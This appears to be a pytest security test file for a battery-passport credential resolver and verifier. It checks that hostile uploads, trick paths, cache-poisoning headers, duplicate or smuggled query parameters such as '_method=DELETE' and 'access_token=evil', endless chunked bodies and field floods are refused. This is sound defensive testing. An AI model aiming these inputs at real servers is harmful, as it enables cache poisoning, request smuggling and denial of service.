    "time": lambda text: {**DOCUMENT, "validFrom": text, "validUntil": text},
    "status": lambda text: {**DOCUMENT, "credentialStatus": {"id": text, "type": text, "statusPurpose": text,
                                                             "statusListIndex": text, "statusListCredential": text}},
    "proof": lambda text: {**DOCUMENT, "proof": {"type": text, "cryptosuite": text, "verificationMethod": text,
                                                 "proofValue": text, "proofPurpose": text, "created": text}},
    "holder": lambda text: {"@context": [V2], "type": ["VerifiablePresentation"], "holder": text,
                            "verifiableCredential": [DOCUMENT, text, {"id": text, "type": text}]},
    "envelope": lambda text: {"@context": V2, "id": f"data:application/vc+jwt,{text}",
                              "type": "EnvelopedVerifiableCredential"},
    "text alone": lambda text: text,
}  # fmt: skip
V2 = "https://www.w3.org/ns/credentials/v2"
UNSIGNED = {"id": "urn:x:1", "type": ["VerifiableCredential", "BatteryModelCredential"], "issuer": "did:key:z6Mk",
            "validFrom": "2027-01-01T00:00:00Z", "credentialSubject": {"id": "urn:x:2"}}  # fmt: skip
DOCUMENT = {"@context": [V2, "https://w3id.org/battery-passport/contexts/battery/v1"], **UNSIGNED}


def subject(members: dict) -> dict:
    return {**DOCUMENT, "credentialSubject": {"id": "urn:x:2", **members}}


@pytest.mark.product(of=3)
@pytest.mark.parametrize(("turn", "shape"), list(enumerate(SHAPES.values())), ids=SHAPES)
def test_an_uploaded_document_does_no_harm(front, caplog, turn, shape):
    caplog.set_level(logging.DEBUG)
    for number, (name, text) in enumerate(share(TEXTS.items(), turn, of=6)):
        body = json.dumps(shape(text)).encode()
        for accept in share(("text/html", "application/json"), turn + number, of=2):
            headers = {"Accept": accept, "Content-Type": "application/ld+json"}
            answer = send(front, "/verify", headers, method="POST", body=body, query="lang=zh")
            if answer.status_code == 200 and accept == "application/json":
                assert json.loads(answer.data)["verified"] is not True, name  # a report, no problem document
            else:
                assert_sound(answer, name)
    assert_clean(caplog)


def test_a_saved_passport_of_a_hostile_issuer_does_no_harm_at_the_verifier(hostile, make_site, tmp_path):
    site = make_site(hostile, tmp_path)
    for bearer in ({}, site.bearer(), site.bearer("cn-regulator")):
        saved = site.get(HOSTILE, {"Accept": "application/vp", **bearer}).data
        for language in ("en", "zh"):
            page = send(site.app.wsgi_app, "/verify", HTML, method="POST", query=f"lang={language}", body=saved)
            assert page.status_code == 200
            assert_sound(page, language)


# --- paths ----------------------------------------------------------------------------------------------------------


@pytest.mark.product(of=2)
@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
@pytest.mark.parametrize("prefix", ["", "/passports"])
def test_a_path_that_plays_tricks_leads_to_no_pack(front, path, prefix):
    for accept in ("text/html", "application/vp", "application/linkset+json"):
        answer = send(front, prefix + path, {"Accept": accept})
        assert_sound(answer, path)
        assert answer.status_code in (307, 400, 404) or (accept[-4:], answer.status_code) == ("json", 200), path
        if answer.status_code == 307:  # at most to the model, by its own address
            assert urlsplit(answer.headers["Location"]).path in (f"/passports{GTIN}", "/passports/id/VO-HV13"), path
        elif answer.status_code == 200:
            assert [one["anchor"] for one in json.loads(answer.data)["linkset"]] in (
                [BASE + GTIN], [f"{BASE}/id/VO-HV13"]
            )  # fmt: skip


@each("path", FILES)
def test_no_path_leads_to_a_file(front, path):
    for method in ("GET", "HEAD", "POST"):
        answer = send(front, path, HTML, method=method, body=b"" if method == "POST" else None)
        assert_sound(answer, path)
        assert answer.status_code in (400, 404, 405)


@pytest.mark.product(of=2)
@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
def test_an_id_that_plays_tricks_is_no_passport_of_en_18222(front, path):
    once = encoded(f"{BASE}/passports{path}")  # encoded once: the server undoes that, and nobody the rest
    twice = encoded(f"{BASE}/passports") + path
    for dpp in (once, twice):
        answer = send(front, f"/v1/dpps/{dpp}")
        assert_sound(answer, path)
        assert answer.status_code in (400, 404), path


# --- caches ---------------------------------------------------------------------------------------------------------


#: Answers that caches may keep.
KEPT = (f"/passports{PACK}", PACK, "/search", "/", "/dumps", "/ns", "/issuers", "/status/1", "/openapi.json",
        "/.well-known/gs1resolver", "/terms", "/verify")  # fmt: skip


def undated(answer: Response) -> tuple:
    return answer.status, answer.data, sorted(pair for pair in answer.headers if pair[0] != "Date")


ACCEPTED = ("text/html", "application/vp, application/json;q=0.5, */*;q=0.1")


@pytest.fixture(scope="module")
def attacked(operator, make_site, tmp_path_factory):
    return make_site(operator, tmp_path_factory.mktemp("poisoned"))


@pytest.fixture(scope="module")
def expected(attacked):
    """The answer to a request without any of those headers, before an empty cache."""
    return cache(lambda path, accept: undated(send(behind_the_front(attacked), path, {"Accept": accept})))


def assert_same(site: Any, expected: Any, path: str, accept: str, headers: dict[str, str]) -> None:
    plain = expected(path, accept)
    poisoned = behind_the_front(site)
    first = send(poisoned, path, {"Accept": accept, **headers})
    assert undated(first) == plain, path
    assert undated(send(poisoned, path, {"Accept": accept})) == plain, path
    assert b"evil" not in first.data


@pytest.mark.product(of=4)
@pytest.mark.parametrize(
    ("turn", "name", "value"), [(turn, *header) for turn, header in enumerate(HEADERS.items())], ids=HEADERS
)
def test_no_header_outside_the_cache_key_changes_an_answer_or_what_is_kept_for_the_next(
    attacked, expected, turn, name, value
):
    for path, accept in share(product(KEPT[:3], ACCEPTED), turn, of=3):
        assert_same(attacked, expected, path, accept, {name: value})


@pytest.mark.product(of=3)
@pytest.mark.parametrize("path", KEPT)
def test_all_those_headers_together_change_no_answer(attacked, expected, path):
    for accept in ACCEPTED:
        assert_same(attacked, expected, path, accept, HEADERS)


@pytest.mark.product(of=2)
@pytest.mark.parametrize(
    ("turn", "query"),
    list(enumerate([
     "format=vp&format=html", "format=html&format=vp", "lang=en&lang=zh", "lang=zh&lang=en", "format=vp;format=html",
     "format=vp%26format=html", "Format=vp", "format[]=vp", "format=vp&", "&format=vp", "format=vp#x", "format=%76p",
     "lang=ZH", "lang=zh-CN", "format=vp&utm_source=evil", "regime=eu&regime=cn", "callback=evil", "format", "=vp",
     "_method=DELETE", "access_token=evil", "audience=commission"])),
)  # fmt: skip
def test_the_front_and_what_stands_behind_it_understand_a_query_alike(attacked, turn, query):
    for accept in share(("text/html", "application/vp"), turn, of=2):
        stack = behind_the_front(attacked)
        behind = undated(send(attacked.app.wsgi_app, f"/passports{PACK}", {"Accept": accept}, query=query))
        for _ in range(2):
            assert undated(send(stack, f"/passports{PACK}", {"Accept": accept}, query=query)) == behind
        assert b"evil" not in behind[1]


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_the_body_of_a_get_is_not_looked_at(site, method):
    token = site.token()
    form = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}
    bodies = (f"access_token={token}&format=vp&lang=zh".encode(), b"_method=DELETE", b"x" * 1_100_000)
    for path in KEPT:
        plain = undated(send(behind_the_front(site), path, HTML, method=method))
        for body in bodies:
            stack = behind_the_front(site)
            assert undated(send(stack, path, form, method=method, body=body)) == plain, path
            assert undated(send(stack, path, HTML, method=method)) == plain, path


def test_what_refuses_is_never_kept(site):
    for path in ("/nothing", f"/passports{PACK}?format=docx", "/01/1", "/v1/nothing", "/search?limit=0&format=json"):
        assert site.client.get(path).headers["Cache-Control"] == "no-store", path


def test_every_redirect_of_the_source_is_made_of_our_base_url():
    """Where a Location is set, and where werkzeug could set one by itself."""
    sources = {one.name: one.read_text("utf-8") for one in (Path(__file__).parents[2] / "resolver").rglob("*.py")}
    setting = {name for name, text in sources.items() if re.search(r'headers\["Location"\] = ', text)}
    # passports, home and look: base URL and a path that was read and written anew; links: a link of the linkset.
    assert setting <= {"passports.py", "home.py", "links.py", "look.py"}
    assert not [name for name, text in sources.items() if "flask import redirect" in text or "redirect_to" in text]


# --- bodies ---------------------------------------------------------------------------------------------------------


def posts(front: Any) -> list[str]:
    """A path for each route that takes a body."""
    filled = {rule.rule: next(addresses(rule.rule, "x")) for rule in front.rules if "POST" in rule.methods}
    return [f"/passports{PACK}" if rule.startswith("/passports") else
            path if "<" in rule else rule for rule, path in filled.items()]  # fmt: skip


#: Answers of these do not depend on a body: their fields come in a form, or they have none.
BODILESS = ("/challenge", "/wallet/requests")


@pytest.mark.product(of=6)
@pytest.mark.parametrize(("turn", "body"), list(enumerate(BODIES.values())), ids=BODIES)
@pytest.mark.parametrize(
    "content_type",
    ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "multipart/form-data",
     "application/json; charset=utf-16", "x" * 999],
)  # fmt: skip
def test_a_hostile_body_is_refused_by_every_route_and_not_repeated(front, caplog, turn, body, content_type):
    caplog.set_level(logging.DEBUG)
    for path in share(posts(front), turn + len(content_type), of=4):
        headers = {"Content-Type": content_type, "Accept": "application/json"}
        answer = send(front, path, headers, method="POST", body=body)
        assert_sound(answer, path)
        if path == "/verify" and answer.status_code == 200:
            assert json.loads(answer.data)["verified"] is not True
        else:
            assert answer.status_code in (400, 401, 403, 404, 405, 413, 415) or path in BODILESS, path
        assert len(answer.data) < 2000 or path in ("/present", "/wallet/open"), path
    assert_clean(caplog)


class Endless(io.RawIOBase):
    """A body that never ends, sent in chunks; counts what was taken of it."""

    taken = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        buffer[:] = b"a" * len(buffer)
        self.taken += len(buffer)
        assert self.taken < 4_000_000, "more was read than any body may be long"
        return len(buffer)


@each("content_type", ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
def test_a_body_without_end_is_not_read_to_its_end(front, content_type):
    for path in posts(front):
        answer = send(front, path, {"Content-Type": content_type, "Transfer-Encoding": "chunked"}, method="POST",
                      **{"wsgi.input": Endless(), "wsgi.input_terminated": True})  # fmt: skip
        assert_sound(answer, path)
        assert answer.status_code in (400, 401, 404, 405, 413) or path in BODILESS


@pytest.mark.product(of=3)
@pytest.mark.parametrize("length", ["-1", "x", "1_000", "٣", "9" * 5000, " 5", "+5", "5, 6", "0x5", ""])
def test_a_length_that_is_none_breaks_nothing(front, length):
    for path in (*posts(front), f"/passports{PACK}"):
        answer = send(front, path, {"Content-Length": length, "Content-Type": "application/json"}, method="POST",
                      **{"wsgi.input": io.BytesIO(b"{}")})  # fmt: skip
        assert_sound(answer, path)


@pytest.mark.product
def test_a_thousand_parts_and_a_thousand_fields_are_refused(front):
    part = b'--x\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n1\r\n'
    parts = b"".join(part % number for number in range(3000)) + b"--x--\r\n"
    fields = b"&".join(b"f%d=1" % number for number in range(90_000))
    kinds = ((parts, "multipart/form-data; boundary=x"), (fields, "application/x-www-form-urlencoded"))
    for number, path in enumerate(share(posts(front), 1, of=3)):
        for body, kind in share(kinds, number, of=2):
            answer = send(front, path, {"Content-Type": kind}, method="POST", body=body)
            assert_sound(answer, path)
            assert answer.status_code >= 400 or path in BODILESS, path
